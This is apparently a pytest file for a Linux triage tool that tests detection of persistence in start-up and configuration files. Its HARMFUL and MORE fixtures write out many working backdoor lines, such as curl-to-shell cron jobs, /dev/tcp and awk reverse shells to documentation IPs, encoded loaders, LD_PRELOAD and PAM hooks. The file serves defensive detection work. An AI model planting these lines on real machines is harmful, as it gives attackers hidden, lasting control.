"""What a start-up file need not run itself: variables, aliases, mounts, shells, options that load."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.linux_image.test_persistence import unit
from tests.linux_image.trees import Link, Tree, indicators, report, worst
from triage.commands.settings import of_setting, of_text

HARMFUL: dict[str, Tree] = {
    "path unit svc": {
        "etc/systemd/system/x.path": "[Path]\nPathChanged=/etc/passwd\n",
        "etc/systemd/system/x.service": unit("ExecStart=/usr/bin/env bash /run/user/0/.x"),
    },
    "systemd-run": {
        "etc/systemd/system/x.service": unit("ExecStart=/usr/bin/systemd-run --unit=q /dev/shm/x")
    },
    "cp then run": {
        "etc/systemd/system/x.service": unit(
            "ExecStartPre=/bin/cp /var/lib/.x /dev/shm/k\nExecStart=/dev/shm/k"
        )
    },
    "cron py zlib": {
        "etc/cron.d/x": "@reboot root sleep 60 && python3 -c \"exec(__import__('zlib').decompress(__import__('base64').b64decode(open('/var/lib/.d').read())))\"\n"
    },
    "cron stdin": {"var/spool/cron/crontabs/root": "* * * * * sh%curl -s http://192.0.2.7/x|sh\n"},
    "prompt": {"root/.bashrc": "PROMPT_COMMAND='(/dev/shm/.a &) 2>/dev/null'\n"},
    "trap": {"root/.bashrc": "trap 'curl -s http://192.0.2.7/x | bash' EXIT\n"},
    "alias": {"home/ann/.bashrc": "alias sudo='/dev/shm/sudo'\n"},
    "function": {"home/ann/.bashrc": 'ls() { /dev/shm/x; command ls "$@"; }\n'},
    "bash_env": {"etc/profile.d/a.sh": "export BASH_ENV=/dev/shm/e\n"},
    "udev at": {
        "etc/udev/rules.d/9.rules": 'ACTION=="add", RUN+="/usr/bin/at -f /dev/shm/x now"\n'
    },
    "pam env": {
        "etc/pam.d/sshd": 'auth optional pam_exec.so quiet expose_authtok /usr/bin/env bash -c "curl -s http://192.0.2.7|sh"\n'
    },
    "pam rel": {"etc/pam.d/sshd": "auth sufficient ../../../../dev/shm/pam_x.so\n"},
    "ldconf": {"etc/ld.so.conf.d/a.conf": "/dev/shm/lib\n"},
    "apt": {
        "etc/apt/apt.conf.d/9": "APT::Update::Pre-Invoke {\"setsid sh -c 'exec 3<>/dev/tcp/192.0.2.7/9; sh <&3 >&3' & \";};\n"
    },
    "dnf pluginpath": {"etc/dnf/dnf.conf": "[main]\npluginpath=/dev/shm/p\n"},
    "key env": {
        "root/.ssh/authorized_keys": 'environment="LD_PRELOAD=/dev/shm/x" ssh-ed25519 AAAA x\n'
    },
    "secure_path": {"etc/sudoers.d/x": 'Defaults secure_path="/dev/shm/b:/usr/bin"\n'},
    "PATH profile": {"etc/profile.d/a.sh": "export PATH=/dev/shm/bin:$PATH\n"},
    "PATH cron": {"etc/cron.d/x": "PATH=/dev/shm/b:/usr/bin\n* * * * * root backup\n"},
    "PATH unit": {
        "etc/systemd/system/x.service": unit(
            "Environment=PATH=/dev/shm/b:/usr/bin\nExecStart=/bin/sh -c backup"
        )
    },
    "logrotate stdin": {
        "etc/logrotate.d/x": "/var/log/x {\n postrotate\n  /usr/bin/python3 - < /dev/shm/x\n endscript\n}\n"
    },
    "motd subst": {"etc/update-motd.d/9": "#!/bin/sh\necho $(/dev/shm/x)\n"},
    "desktop": {
        "etc/xdg/autostart/a.desktop": '[Desktop Entry]\nExec=sh -c "echo ZWNobyBoaQo= | base64 -d | sh"\n'
    },
    "nm dot": {"etc/NetworkManager/dispatcher.d/9": "#!/bin/bash\n. /dev/shm/n\n"},
    "insmod": {"etc/modprobe.d/x.conf": "install pcspkr /sbin/insmod /dev/shm/rk.ko\n"},
    "gen link": {"etc/systemd/system-generators/g": Link("/dev/shm/gen")},
    "gdb": {
        "etc/systemd/system/x.service": unit(
            'ExecStart=/usr/bin/gdb -batch -ex \'python exec(__import__("base64").b64decode("aWQ="))\''
        )
    },
    "tmpfiles cron": {
        "etc/tmpfiles.d/x.conf": "f+ /etc/cron.d/x 0644 root root - * * * * * root curl -s http://192.0.2.7/x|sh\n"
    },
    "env.d runtime": {
        "home/ann/.config/environment.d/x.conf": "LD_PRELOAD=${XDG_RUNTIME_DIR}/x.so\n"
    },
    "rc heredoc": {
        "etc/rc.local": "#!/bin/sh\npython3 <<'E'\nimport os\nf=os.memfd_create('')\nos.write(f,D)\nos.execve('/proc/self/fd/%d'%f,['a'],{})\nE\n"
    },
    "perl": {
        "etc/cron.d/x": "1 1 * * * root perl -MMIME::Base64 -e 'eval decode_base64(\"cHJpbnQgMQ==\")'\n"
    },
    "php": {
        "etc/systemd/system/x.service": unit(
            "ExecStart=/usr/bin/php -r \"eval(gzinflate(base64_decode('abc')));\""
        )
    },
    "dig": {
        "etc/cron.d/x": "1 1 * * * root dig +short txt a.example | tr -d '\"' | base64 -d | sh\n"
    },
    "busybox": {
        "etc/cron.d/x": "1 1 * * * root busybox wget -qO- http://192.0.2.7/a | busybox ash\n"
    },
    "xxd": {"etc/cron.d/x": "1 1 * * * root xxd -r -p /etc/.k | bash\n"},
    "SHELL cron": {"etc/cron.d/x": "SHELL=/dev/shm/sh\n* * * * * root true\n"},
    "passwd shell": {"etc/passwd": "root:x:0:0:root:/root:/dev/shm/sh\n"},
    "bindpaths": {
        "etc/systemd/system/ssh.service.d/o.conf": "[Service]\nBindPaths=/dev/shm/x:/usr/sbin/sshd\n"
    },
    "fstab bind": {"etc/fstab": "/dev/shm/x /usr/sbin/sshd none bind 0 0\n"},
    "mount bind": {
        "etc/systemd/system/usr-bin-y.mount": "[Mount]\nWhat=/dev/shm/x\nWhere=/usr/bin/y\nOptions=bind\n"
    },
    "crypttab": {"etc/crypttab": "c /dev/sda3 none luks,keyscript=/dev/shm/x\n"},
    "dhclient script": {"etc/dhcp/dhclient.conf": 'script "/dev/shm/x";\n'},
    "enable -f": {"root/.bashrc": "enable -f /dev/shm/x.so cat\n"},
    "lessopen": {"etc/profile.d/l.sh": 'export LESSOPEN="|/dev/shm/x %s"\n'},
    "editor": {"etc/environment": "EDITOR=/dev/shm/e\n"},
    "node_options": {"etc/environment": "NODE_OPTIONS=--require /dev/shm/x.js\n"},
    "java": {"etc/environment": "JAVA_TOOL_OPTIONS=-javaagent:/dev/shm/x.jar\n"},
    "gconv": {"etc/environment": "GCONV_PATH=/dev/shm/g\n"},
    "perl5opt": {"etc/environment": "PERL5LIB=/dev/shm/p\nPERL5OPT=-Mx\n"},
    "namespace.init": {"etc/security/namespace.init": "#!/bin/sh\n/dev/shm/x\n"},
    "env split": {
        "etc/systemd/system/x.service": unit(
            "Environment=A=/dev/ B=shm/x\nExecStart=/bin/sh -c '$A$B'"
        )
    },
    "condition exec": {
        "etc/systemd/system/x.service": unit("ExecCondition=/dev/shm/x\nExecStart=/bin/true")
    },
    "setsid nohup": {"etc/rc.local": "#!/bin/sh\nnohup setsid /dev/shm/x >/dev/null 2>&1 &\n"},
    "find exec": {"etc/cron.d/x": "* * * * * root find /dev/shm -name '.k*' -exec {} \\;\n"},
    "run-parts": {"etc/cron.d/x": "* * * * * root run-parts /dev/shm/cron\n"},
    "ld.so explicit": {"etc/cron.d/x": "* * * * * root /lib64/ld-linux-x86-64.so.2 /dev/shm/x\n"},
    "tar checkpoint": {
        "etc/cron.d/x": "* * * * * root tar cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec=/dev/shm/x\n"
    },
    "ssh localcmd": {
        "root/.ssh/config": "Host *\n PermitLocalCommand yes\n LocalCommand /dev/shm/x\n"
    },
}
H = "198.51.100.9"
MORE: dict[str, Tree] = {
    "exec -a": {
        "etc/profile.d/a.sh": "if [ $(id -u) = 0 ]; then (exec -a '[kworker]' /dev/shm/k &) ; fi\n"
    },
    "tcp loop": {
        "etc/cron.d/x": f"*/5 * * * * root /bin/bash -c 'exec 5<>/dev/tcp/{H}/443; cat <&5 | while read l; do $l 2>&5 >&5; done'\n"
    },
    "xzcat": {
        "etc/systemd/system/x.service": unit(
            'ExecStart=/bin/sh -c "xzcat /usr/share/man/man1/z.1.xz | sh"'
        )
    },
    "echo at": {
        "etc/udev/rules.d/x.rules": 'ACTION=="add", RUN+="/bin/sh -c \'echo /dev/shm/a | at now\'"\n'
    },
    "urlopen": {
        "root/.bashrc": f"[ -S /run/.x ] || (python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://{H}/x\").read())' &)\n"
    },
    "awk": {
        "etc/update-motd.d/9": '#!/bin/sh\nawk \'BEGIN{s="/inet/tcp/0/198.51.100.9/99";while(1){printf "$" |& s; s |& getline c; while(c|getline)print|&s}}\' &\n'
    },
    "pam script": {
        "etc/pam.d/sshd": "session optional pam_exec.so /usr/local/bin/x.sh\n",
        "usr/local/bin/x.sh": "#!/bin/sh\n. /run/lock/.s\n",
    },
    "logrotate stage": {
        "etc/logrotate.d/x": "/var/log/x {\n postrotate\n  base64 -d /etc/logrotate.d/.d > /run/x; chmod +x /run/x; /run/x &\n endscript\n}\n"
    },
    "perl lwp": {
        "etc/apt/apt.conf.d/9": f"DPkg::Post-Invoke {{\"perl -e 'use LWP::Simple; eval get(q(http://{H}/x))'\"}};\n"
    },
    "gpg": {"etc/rc.local": "#!/bin/sh\ngpg -d --batch --passphrase x /etc/k.gpg | bash\n"},
    "procsub": {
        "home/ann/.config/autostart/x.desktop": f'[Desktop Entry]\nExec=bash -c "exec bash <(curl -s https://{H}/x)"\n'
    },
    "git config": {
        "home/ann/a/.git/hooks/post-merge": '#!/bin/sh\neval "$(git config x.y | base64 -d)"\n'
    },
    "ctypes": {
        "etc/cron.daily/zz": "#!/usr/bin/python3\nimport ctypes, os\nlibc=ctypes.CDLL(None)\nfd=libc.syscall(319,b'x',1)\nos.write(fd,open('/etc/.b','rb').read())\nos.execv('/proc/self/fd/%d'%fd,['x'])\n"
    },
    "nsenter": {"etc/network/if-up.d/x": "#!/bin/sh\nnsenter -t 1 -m -- /dev/shm/x\n"},
    "modprobe": {
        "etc/modprobe.d/x.conf": 'install usb_storage /bin/sh -c "/sbin/modprobe --ignore-install usb_storage; /var/lock/.u &"\n'
    },
    "supervisor env": {
        "etc/supervisor/conf.d/x.conf": "[program:x]\ncommand=/usr/bin/env LD_PRELOAD=/dev/shm/a.so /usr/bin/sleep inf\n"
    },
    "supervisor environment": {
        "etc/supervisor/conf.d/x.conf": '[program:x]\ncommand=/usr/bin/sleep inf\nenvironment=LD_PRELOAD="/dev/shm/a.so"\n'
    },
    "pth hex": {
        "usr/lib/python3/dist-packages/a.pth": "import os,sys;exec(__import__('zlib').decompress(bytes.fromhex('789c')))\n"
    },
    "k8s": {
        "etc/kubernetes/manifests/a.yaml": "spec:\n  containers:\n  - name: a\n    command: ['/bin/bash', '-c', 'echo aWQ= | base64 -d | bash']\n"
    },
    "docker": {
        "var/lib/docker/containers/a/config.v2.json": json.dumps(
            {"Path": "sh", "Args": ["-c", f"wget -qO- {H}/x | sh"]}
        )
    },
    "sshrc": {"root/.ssh/rc": f"nohup ssh -o ProxyCommand='sh -c \"curl {H}|sh\"' x &\n"},
    "mqueue": {
        "etc/systemd/system/x.service": unit("ExecStart=/usr/bin/busybox sh /dev/mqueue/.x")
    },
    "xprofile": {
        "home/ann/.xprofile": "xxd -p -r ~/.cache/x | (cat >/dev/shm/.q; chmod 700 /dev/shm/.q; exec /dev/shm/.q)\n"
    },
    "ssd": {
        "etc/init.d/x": "#!/bin/sh\ncase $1 in\nstart)\n start-stop-daemon --start --background --exec /dev/shm/d\n;;\nesac\n"
    },
    "ssd var": {
        "etc/init.d/x": "#!/bin/sh\nDAEMON=/dev/shm/d\ncase $1 in\nstart)\n start-stop-daemon -S -b -x $DAEMON -- -d\n;;\nesac\n"
    },
    "openrc": {"etc/init.d/x": "#!/sbin/openrc-run\ncommand=/dev/shm/d\ncommand_background=yes\n"},
    "runit": {"etc/sv/x/run": "#!/bin/sh\nexec chpst -u root /dev/shm/x\n"},
    "while": {
        "etc/rc.local": "#!/bin/bash\nwhile true; do [ -x /dev/shm/x ] && /dev/shm/x; sleep 60; done &\n"
    },
    "D var": {"etc/rc.local": '#!/bin/bash\nd=/dev; s=shm\n"$d/$s/.x" &\n'},
    "ExecStartPost curl": {
        "etc/systemd/system/ssh.service.d/x.conf": f"[Service]\nExecStartPost=-/usr/bin/curl -o /run/.k http://{H}/k\nExecStartPost=-/bin/sh /run/.k\n"
    },
    "cron python file": {"etc/cron.d/x": "* * * * * root /usr/bin/python3 /dev/shm/.a.py\n"},
    "user timer": {
        "root/.config/systemd/user/x.timer": "[Timer]\nOnBootSec=1\n",
        "root/.config/systemd/user/x.service": unit(
            "ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.9/9 0>&1'"
        ),
    },
    "xdg env": {"etc/xdg/plasma-workspace/env/x.sh": "export QT_PLUGIN_PATH=/dev/shm/q\n"},
    "kernel install": {"etc/kernel/postinst.d/x": f"#!/bin/sh\nwget -q -O - http://{H}/x | sh\n"},
    "dracut": {
        "usr/lib/dracut/modules.d/99x/x.sh": "#!/bin/sh\nmkdir -p /dev/shm; echo aWQ= | base64 -d > /dev/shm/x; sh /dev/shm/x\n"
    },
}
BENIGN: dict[str, Tree] = {
    "path": {
        "etc/profile.d/a.sh": "export PATH=$HOME/bin:/snap/bin:/opt/x/bin:$PATH\nexport XDG_RUNTIME_DIR=/run/user/$(id -u)\n"
    },
    "nix": {
        "etc/profile.d/nix.sh": "export PATH=/run/wrappers/bin:/run/current-system/sw/bin:$PATH\n"
    },
    "tmpdir": {
        "etc/profile.d/t.sh": "export TMPDIR=/tmp TMP=/tmp TEMP=/var/tmp\nexport JAVA_OPTS='-Djava.io.tmpdir=/tmp -Xlog:gc:/tmp/gc.log'\n"
    },
    "java": {
        "etc/systemd/system/tomcat.service": unit(
            "Environment='CATALINA_OPTS=-Xms512M -server -XX:+UseParallelGC'\nEnvironment='JAVA_OPTS=-Djava.security.egd=file:///dev/urandom -Djava.io.tmpdir=/tmp'\nExecStart=/opt/tomcat/bin/startup.sh"
        )
    },
    "newrelic": {
        "etc/environment": "JAVA_TOOL_OPTIONS=-javaagent:/opt/newrelic/newrelic.jar\nNODE_OPTIONS=--max-old-space-size=4096\nEDITOR=vim\nPAGER=less\n"
    },
    "prompt": {
        "home/ann/.bashrc": "PROMPT_COMMAND='history -a; printf \"\\033]0;%s\\007\" \"$PWD\"'\nPS1='$(git branch 2>/dev/null)\\$ '\nalias ll='ls -l'\nalias tmp='cd /tmp'\nalias myip='curl -s ifconfig.me'\nexport LESSOPEN=\"|/usr/bin/lesspipe %s\"\n"
    },
    "alias tmux": {
        "home/ann/.bash_aliases": "alias dc='docker compose'\nalias serve='python3 -m http.server -d /tmp'\nalias update='curl -fsS https://x.example/v | jq .'\n"
    },
    "screen": {
        "etc/profile.d/s.sh": "export SCREENDIR=/run/screen\nexport DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus\nexport SSH_AUTH_SOCK=/run/user/1000/keyring/ssh\n"
    },
    "runparts": {
        "etc/cron.d/x": "@daily root run-parts --report /etc/cron.daily\n* * * * * root tar czf /var/backups/a.tgz --checkpoint=100 --checkpoint-action=dot /etc\n"
    },
    "passwd": {
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nd:x:1:1::/usr/sbin:/usr/sbin/nologin\ngit:x:9:9::/home/git:/usr/bin/git-shell\nft:x:7:7::/x:/opt/ft/bin/shell\nnix:x:8:8::/h:/run/current-system/sw/bin/zsh\nl:x:7:7::/x:/usr/local/cpanel/bin/noshell\n"
    },
    "bind": {
        "usr/lib/systemd/system/a.service": unit(
            "BindReadOnlyPaths=/dev/log /run/systemd/journal/socket /etc/resolv.conf\nBindPaths=/var/lib/a:/srv\nRootDirectory=/var/lib/machines/a\nPrivateTmp=yes\nExecStart=/usr/bin/a"
        ),
        "etc/fstab": "/dev/vg0/root / ext4 defaults 0 1\n/dev/mapper/x /home xfs defaults 0 0\n/srv/a /home/a none bind 0 0\n/dev/disk/by-uuid/1 /m ext4 ro 0 0\noverlay /x overlay lowerdir=/l,upperdir=/u,workdir=/w 0 0\n//nas/s /mnt cifs credentials=/root/.c 0 0\ntmpfs /tmp tmpfs defaults 0 0\n/tmp.img /t ext4 loop 0 0\n",
    },
    "crypt": {
        "etc/crypttab": "c UUID=1 none luks,discard\nd /dev/sdb1 /dev/urandom swap,cipher=aes\ne /dev/sdc none luks,keyscript=/lib/cryptsetup/scripts/decrypt_keyctl\n"
    },
    "dhclient": {
        "etc/dhcp/dhclient.conf": 'option rfc3442 code 121 = array of unsigned integer 8;\nsend host-name = gethostname();\n#script "/sbin/dhclient-script";\nscript "/sbin/dhclient-script";\n'
    },
    "sudoers": {
        "etc/sudoers": 'Defaults env_reset\nDefaults mail_badpass\nDefaults secure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/snap/bin"\nDefaults:ann !requiretty, editor=/usr/bin/vim\n%x ALL=NOPASSWD: /usr/bin/systemctl restart a, /bin/cat /run/a.pid\n'
    },
    "tmpfiles": {
        "usr/lib/tmpfiles.d/a.conf": "f /etc/cron.d/x 0644 root root - 17 * * * * root run-parts /etc/cron.hourly\nw /sys/kernel/x - - - - 1\nf+ /run/motd 0644 - - - welcome | to the machine\nL /run/x - - - - /dev/shm/y\nd /dev/shm/app 0755 a a -\n"
    },
    "pam": {
        "etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth optional pam_exec.so quiet /usr/local/bin/notify\n@include common-x\nsession required pam_namespace.so\nauth required /lib/x86_64-linux-gnu/security/pam_u2f.so\n"
    },
    "dnf": {
        "etc/dnf/dnf.conf": "[main]\ngpgcheck=1\nplugins=1\npluginpath=/usr/lib/python3.9/site-packages/dnf-plugins\ncachedir=/tmp/dnf\n"
    },
    "completion": {
        "etc/bash_completion.d/x": '_x() { local cur=${COMP_WORDS[COMP_CWORD]}; COMPREPLY=( $(compgen -W "$(ls /tmp /dev/shm 2>/dev/null)" -- $cur) ); }\ncomplete -F _x x\n'
    },
    "devenv": {
        "home/ann/.zshrc": 'export ZDOTDIR=$HOME/.zsh\nfpath=(/usr/local/share/zsh $fpath)\neval "$(direnv hook zsh)"\neval "$(starship init zsh)"\nsource <(fzf --zsh)\nexport FZF_DEFAULT_COMMAND=\'fd --type f\'\nexport GOPATH=$HOME/go PATH=$PATH:$HOME/go/bin\n'
    },
    "CI": {
        "etc/gitlab-runner/x": "",
        "etc/cron.d/ci": "TMPDIR=/dev/shm/ci\n0 * * * * ci /usr/bin/find /dev/shm/ci -mmin +60 -delete\n",
    },
    "ramdisk build": {
        "etc/cron.d/b": "0 1 * * * ann mkdir -p /dev/shm/b && cp -r /home/ann/src /dev/shm/b && make -C /home/ann/src O=/dev/shm/b > /dev/shm/b/log\n"
    },
    "mysql": {
        "etc/systemd/system/mysql.service.d/o.conf": "[Service]\nExecStartPre=/bin/install -d -o mysql /dev/shm/mysql\nEnvironment=MYSQLD_OPTS=--tmpdir=/dev/shm/mysql\n"
    },
    "chromium": {
        "etc/chromium.d/x": 'export CHROMIUM_FLAGS="--disable-dev-shm-usage --user-data-dir=/tmp/c"\n'
    },
    "sysstat": {
        "etc/cron.d/sysstat": "PATH=/usr/lib/sysstat:/usr/sbin:/usr/sbin:/usr/bin:/sbin:/bin\n5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n"
    },
    "postgres": {
        "usr/lib/systemd/system/postgresql@.service": unit(
            "Environment=PG_GRANDPARENT_PID=1\nExecStart=-/usr/bin/pg_ctlcluster --skip-systemctl-redirect %i start\nPIDFile=/run/postgresql/%i.pid"
        )
    },
    "pth editable": {
        "usr/local/lib/python3.11/dist-packages/__editable__.a.pth": "/home/ann/src/a\n",
        "usr/local/lib/python3.11/dist-packages/matplotlib-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('mpl_toolkits', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('mpl_toolkits', [os.path.dirname(p)])));m = m or sys.modules.setdefault('mpl_toolkits', types.ModuleType('mpl_toolkits'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
    },
    "coverage pth": {
        "usr/local/lib/python3.11/dist-packages/coverage.pth": "import os; os.getenv('COVERAGE_PROCESS_START') and exec('import coverage\\ncoverage.process_startup()')\n"
    },
}


@pytest.mark.parametrize("name", HARMFUL)
def test_what_leads_to_a_payload_is_found(tmp_path: Path, name: str) -> None:
    assert worst(report(tmp_path, HARMFUL[name])) >= 47


@pytest.mark.parametrize("name", MORE)
def test_what_starts_a_payload_is_found(tmp_path: Path, name: str) -> None:
    assert worst(report(tmp_path, MORE[name])) >= 47


@pytest.mark.parametrize("name", BENIGN)
def test_ordinary_settings_are_silent(tmp_path: Path, name: str) -> None:
    assert indicators(report(tmp_path, BENIGN[name])) == set()


@pytest.mark.parametrize(
    "value", ["", ":", "/", "/dev/shm" * 5000, "\0", "$(" * 9000, "-r " * 9000]
)
@pytest.mark.parametrize(
    "name", ["PATH", "EDITOR", "NODE_OPTIONS", "JAVA_OPTS", "PERL5OPT", "SHELL"]
)
def test_any_value_is_read(name: str, value: str) -> None:
    list(of_setting(name, value))
    list(of_text(f"export {name}={value}\nalias a={value}\ntar --checkpoint-action=exec={value}"))
